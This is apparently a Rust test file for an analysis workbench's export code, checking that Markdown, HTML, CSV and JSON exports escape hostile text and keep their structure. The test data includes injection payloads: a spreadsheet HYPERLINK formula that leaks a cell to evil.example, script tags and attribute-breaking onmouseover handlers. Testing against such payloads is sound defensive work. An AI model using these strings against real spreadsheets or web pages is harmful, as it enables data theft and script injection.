//! A matrix whose every field holds hostile text (table pipes, backticks,
//! line breaks, HTML and attribute breakers, spreadsheet formulas, quotes,
//! emoji, right-to-left text), exported in every format: each output
//! parses, keeps its shape, and gives the text back as text.

use ach_workbench::export::{CSV_EVIDENCE_COLUMNS, ExportContext, Format, export, restore_formula};
use ach_workbench::model::{Evidence, EvidenceKind, Hypothesis, Level, Matrix, Passage, Rating};
use chrono::NaiveDate;
use scraper::{ElementRef, Html, Selector};

/// Pieces of hostile text; every field of the matrix holds all of them,
/// starting with a different one.
const PIECES: [&str; 12] = [
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "@SUM(1)",
    "| pipe | in | cells |",
    "`code` ``span``",
    "<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "'single' \"double\"",
    "emoji 😀🎉 and RTL עברית العربية",
    "+1-1",
    "# not a heading\n- not a list\n1. not ordered\n> not a quote\n---",
    "[link](javascript:alert(1)) ![img](x.png) www.evil.example *em* _em_ ~~s~~ $x$ &amp; \\",
    "line one\r\nline two\rline three\n\nafter a blank line",
];

/// All pieces, starting with piece `first`, one per line.
fn hostile(first: usize) -> String {
    let mut pieces = PIECES.to_vec();
    pieces.rotate_left(first % PIECES.len());
    pieces.join("\n")
}

fn hostile_matrix() -> Matrix {
    let mut matrix = Matrix::new(hostile(0));
    matrix.question = Some(hostile(1));
    matrix.analyst = Some(hostile(2));
    for n in 0..3 {
        let mut hypothesis = Hypothesis::new(format!("H{n}|<b>`=x`"), hostile(3 + n));
        hypothesis.description = Some(hostile(6 + n));
        matrix.push_hypothesis(hypothesis);
    }
    for n in 0..4 {
        let mut evidence = Evidence::new(format!("=E{n}|<i>"), hostile(n));
        evidence.kind = EvidenceKind::ALL[n % EvidenceKind::ALL.len()];
        evidence.credibility = Level::ALL[n % 3];
        evidence.relevance = Level::ALL[(n + 1) % 3];
        evidence.date = NaiveDate::from_ymd_opt(2024, 1, 1 + n as u32);
        evidence.notes = Some(hostile(n + 4));
        evidence.source = Some(Passage {
            document: format!("seeds/<script>|`{n}`.txt"),
            start: n,
            end: n + 10,
            quote: hostile(n + 8),
        });
        let row = matrix.push_evidence(evidence);
        for column in 0..3 {
            let rating = Rating::ALL[(row + column) % Rating::ALL.len()];
            matrix.set_rating(row, column, Some(rating));
        }
    }
    matrix
}

fn exported(format: Format) -> String {
    let context = ExportContext::new(NaiveDate::from_ymd_opt(2026, 2, 20).unwrap());
    export(&hostile_matrix(), format, &context)
}

/// Every text field of the matrix, as the formats must give it back.
fn all_texts(matrix: &Matrix) -> Vec<String> {
    let mut texts = vec![matrix.title.clone()];
    texts.extend(matrix.question.clone());
    texts.extend(matrix.analyst.clone());
    for hypothesis in matrix.hypotheses() {
        texts.push(hypothesis.id.clone());
        texts.push(hypothesis.title.clone());
        texts.extend(hypothesis.description.clone());
    }
    for evidence in matrix.evidence() {
        texts.push(evidence.id.clone());
        texts.push(evidence.summary.clone());
        texts.extend(evidence.notes.clone());
        let source = evidence.source.as_ref().unwrap();
        texts.push(source.document.clone());
        texts.push(source.quote.clone());
    }
    texts
}

/// Line breaks as HTML and Markdown read them.
fn lf(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\r', "\n")
}

// ---------------------------------------------------------------- Markdown

/// Reverses the Markdown escaping as a CommonMark reader would: entities,
/// backslash escapes, and ` ↵ ` for a line break inside a cell.
fn unescape_markdown(text: &str) -> String {
    let mut out = String::new();
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => out.extend(chars.next()),
            _ => out.push(c),
        }
    }
    out.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
        .replace(" ↵ ", "\n")
}

/// The cells of a GFM table row, split at unescaped pipes.
fn table_cells(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                let cell = cells.last_mut().unwrap();
                cell.push('\\');
                cell.extend(chars.next());
            }
            '|' => cells.push(String::new()),
            _ => cells.last_mut().unwrap().push(c),
        }
    }
    // Drop what is outside the first and last border.
    cells.remove(0);
    cells.pop();
    cells
        .into_iter()
        .map(|cell| cell.trim().to_owned())
        .collect()
}

/// Whether a line (or the rest of one after a list or quote marker) would
/// open a Markdown block: a heading, list, quote, setext underline, fence,
/// HTML block or indented code.
fn starts_block(text: &str) -> bool {
    let digits = text.chars().take_while(char::is_ascii_digit).count();
    text.starts_with(['-', '+', '=', '>', '#', '<', ' ', '\t'])
        || text.starts_with("* ")
        || text.starts_with("```")
        || text.starts_with("~~~")
        || (digits > 0 && text[digits..].starts_with(['.', ')']))
}

/// The invariants of both Markdown formats.
fn assert_markdown_is_inert(markdown: &str) {
    // No raw HTML at all: matrix text's `<` became `&lt;`.
    assert!(!markdown.contains('<'), "raw < in the Markdown");
    for line in markdown.lines() {
        // Characters that only matrix text holds are always escaped.
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            match c {
                '\\' => {
                    chars.next();
                }
                '`' | '[' | ']' | '$' | '@' | '~' | '_' => {
                    panic!("unescaped {c:?} in {line:?}")
                }
                _ => {}
            }
        }
        // Matrix text never opens a block of its own: only the export's
        // headings, list items, quotes and table rows start lines.
        if line.is_empty() || line == ">" || line.starts_with('|') {
            continue;
        }
        if let Some(heading) = line.strip_prefix('#') {
            let text = heading.trim_start_matches('#');
            assert!(
                text.starts_with(' ') && heading.len() - text.len() < 3,
                "{line:?}"
            );
            continue;
        }
        let rest = line
            .strip_prefix("> ")
            .or_else(|| line.strip_prefix("- "))
            .unwrap_or(line);
        assert!(!starts_block(rest), "a block starts in {line:?}");
    }
}

/// Every table row of `markdown` has as many cells as its header.
fn assert_tables_keep_their_columns(markdown: &str) -> Vec<Vec<Vec<String>>> {
    let mut tables: Vec<Vec<Vec<String>>> = Vec::new();
    let mut in_table = false;
    for line in markdown.lines() {
        if line.starts_with('|') {
            if !in_table {
                tables.push(Vec::new());
                in_table = true;
            }
            tables.last_mut().unwrap().push(table_cells(line));
        } else {
            in_table = false;
        }
    }
    for table in &tables {
        for row in table {
            assert_eq!(row.len(), table[0].len(), "{row:?} under {:?}", table[0]);
        }
    }
    tables
}

#[test]
fn markdown_keeps_its_tables_and_gives_the_text_back() {
    let matrix = hostile_matrix();
    let markdown = exported(Format::Markdown);
    assert_markdown_is_inert(&markdown);
    let tables = assert_tables_keep_their_columns(&markdown);
    // Hypotheses, matrix, scores, probabilities, diagnosticity.
    assert_eq!(tables.len(), 5);
    let hypotheses = &tables[0];
    assert_eq!(hypotheses.len(), 2 + matrix.hypotheses().len());
    for (row, hypothesis) in hypotheses[2..].iter().zip(matrix.hypotheses()) {
        assert_eq!(unescape_markdown(&row[0]), hypothesis.id);
        assert_eq!(unescape_markdown(&row[1]), lf(&hypothesis.title));
        let description = hypothesis.description.as_deref().unwrap();
        assert_eq!(unescape_markdown(&row[2]), lf(description));
    }
    let rows = &tables[1];
    assert_eq!(rows[0].len(), 5 + matrix.hypotheses().len());
    assert_eq!(rows.len(), 2 + matrix.evidence().len());
    for (row, evidence) in rows[2..].iter().zip(matrix.evidence()) {
        assert_eq!(unescape_markdown(&row[0]), evidence.id);
        assert_eq!(unescape_markdown(&row[1]), lf(&evidence.summary));
        for (column, cell) in row[5..].iter().enumerate() {
            assert_eq!(cell, evidence.rating(column).unwrap().code());
        }
    }
    let probabilities = &tables[3];
    assert_eq!(probabilities.len(), 2 + matrix.hypotheses().len());
    for (row, hypothesis) in probabilities[2..].iter().zip(matrix.hypotheses()) {
        assert_eq!(unescape_markdown(&row[0]), hypothesis.id);
        assert_eq!(unescape_markdown(&row[1]), lf(&hypothesis.title));
    }
    // Quotes come back line by line from their blockquotes.
    let quoted: String = markdown
        .lines()
        .filter_map(|line| line.strip_prefix("> ").or(line.strip_prefix('>')))
        .map(|line| unescape_markdown(line) + "\n")
        .collect();
    for evidence in matrix.evidence() {
        let quote = lf(&evidence.source.as_ref().unwrap().quote);
        assert!(quoted.contains(&quote), "{quote:?} not in {quoted:?}");
    }
}

#[test]
fn the_brief_is_inert_too() {
    let brief = exported(Format::Brief);
    assert_markdown_is_inert(&brief);
    assert_tables_keep_their_columns(&brief);
    let matrix = hostile_matrix();
    let text = unescape_markdown(&brief);
    for hypothesis in matrix.hypotheses() {
        assert!(
            text.contains(&lf(&hypothesis.title)),
            "{}",
            hypothesis.title
        );
    }
}

// -------------------------------------------------------------------- HTML

const ELEMENTS: [&str; 33] = [
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "header",
    "h1",
    "h2",
    "h3",
    "dl",
    "dt",
    "dd",
    "main",
    "section",
    "p",
    "span",
    "strong",
    "div",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "article",
    "figure",
    "blockquote",
    "figcaption",
    "br",
    // The probability section's caveat and list of findings.
    "em",
    "ul",
    "li",
];

const ATTRIBUTES: [&str; 8] = [
    "lang", "charset", "name", "content", "class", "scope", "dir", "id",
];

#[test]
fn html_parses_with_only_its_own_elements_and_attributes() {
    let matrix = hostile_matrix();
    let text = exported(Format::Html);
    let html = Html::parse_document(&text);
    assert!(html.errors.is_empty(), "{:?}", html.errors);
    let mut texts = Vec::new();
    for node in html.tree.nodes() {
        let Some(element) = ElementRef::wrap(node) else {
            continue;
        };
        let name = element.value().name();
        assert!(
            ELEMENTS.contains(&name),
            "element <{name}> from matrix text"
        );
        for (attribute, value) in element.value().attrs() {
            assert!(ATTRIBUTES.contains(&attribute), "attribute {attribute}");
            for piece in all_texts(&matrix) {
                assert!(!value.contains(&piece), "{attribute}={value:?}");
            }
            assert!(
                !value.contains("alert") && !value.contains("evil"),
                "{value:?}"
            );
        }
        texts.push(element.text().collect::<String>());
    }
    // Every field is in the page as text, exactly.
    let page: String = html.root_element().text().collect();
    for field in all_texts(&matrix) {
        assert!(
            page.contains(&lf(&field)),
            "{field:?} is not in the page text"
        );
    }
    // The structure holds: one row per item, one column per hypothesis.
    let select = |css: &str| Selector::parse(css).unwrap();
    let rows: Vec<_> = html.select(&select("table.matrix > tbody > tr")).collect();
    assert_eq!(rows.len(), matrix.evidence().len());
    for row in rows {
        assert_eq!(
            row.select(&select("td.rating")).count(),
            matrix.hypotheses().len()
        );
    }
    let title: String = html
        .select(&select("head > title"))
        .next()
        .unwrap()
        .text()
        .collect();
    assert_eq!(title, lf(&matrix.title));
}

// --------------------------------------------------------------------- CSV

#[test]
fn csv_parses_and_no_cell_can_run_as_a_formula() {
    let matrix = hostile_matrix();
    let text = exported(Format::Csv);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for cell in headers.iter().chain(records.iter().flatten()) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']),
            "{cell:?} could run as a formula"
        );
    }
    let first_rating = CSV_EVIDENCE_COLUMNS.len();
    for (column, hypothesis) in matrix.hypotheses().iter().enumerate() {
        assert_eq!(
            restore_formula(&headers[first_rating + column]),
            format!("{}: {}", hypothesis.id, hypothesis.title)
        );
    }
    // Items, a blank row, five score rows, four probability rows, two
    // set-aside rows.
    assert_eq!(records.len(), matrix.evidence().len() + 1 + 5 + 4 + 2);
    for (record, evidence) in records.iter().zip(matrix.evidence()) {
        let source = evidence.source.as_ref().unwrap();
        let cell = |n: usize| restore_formula(&record[n]).to_owned();
        assert_eq!(cell(0), evidence.id);
        assert_eq!(cell(1), evidence.summary);
        assert_eq!(cell(6), source.document);
        assert_eq!(cell(7), "", "no workspace, no line");
        assert_eq!(cell(8), source.quote);
        assert_eq!(cell(9), evidence.notes.clone().unwrap());
        for (column, rating) in record.iter().skip(first_rating).enumerate() {
            assert_eq!(rating, evidence.rating(column).unwrap().code());
        }
    }
}

// -------------------------------------------------------------------- JSON

#[test]
fn json_parses_and_holds_every_field_exactly() {
    let matrix = hostile_matrix();
    let value: serde_json::Value = serde_json::from_str(&exported(Format::Json)).unwrap();
    assert_eq!(value["title"], matrix.title.as_str());
    assert_eq!(value["question"], matrix.question.as_deref().unwrap());
    assert_eq!(value["analyst"], matrix.analyst.as_deref().unwrap());
    for (entry, hypothesis) in value["hypotheses"]
        .as_array()
        .unwrap()
        .iter()
        .zip(matrix.hypotheses())
    {
        assert_eq!(entry["id"], hypothesis.id.as_str());
        assert_eq!(entry["title"], hypothesis.title.as_str());
        assert_eq!(
            entry["description"],
            hypothesis.description.as_deref().unwrap()
        );
    }
    for (entry, evidence) in value["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .zip(matrix.evidence())
    {
        let source = evidence.source.as_ref().unwrap();
        assert_eq!(entry["id"], evidence.id.as_str());
        assert_eq!(entry["summary"], evidence.summary.as_str());
        assert_eq!(entry["notes"], evidence.notes.as_deref().unwrap());
        assert_eq!(entry["source"]["document"], source.document.as_str());
        assert_eq!(entry["source"]["quote"], source.quote.as_str());
        assert_eq!(entry["source"]["line"], serde_json::Value::Null);
        for (column, hypothesis) in matrix.hypotheses().iter().enumerate() {
            assert_eq!(
                entry["ratings"][hypothesis.id.as_str()],
                evidence.rating(column).unwrap().code()
            );
        }
    }
}
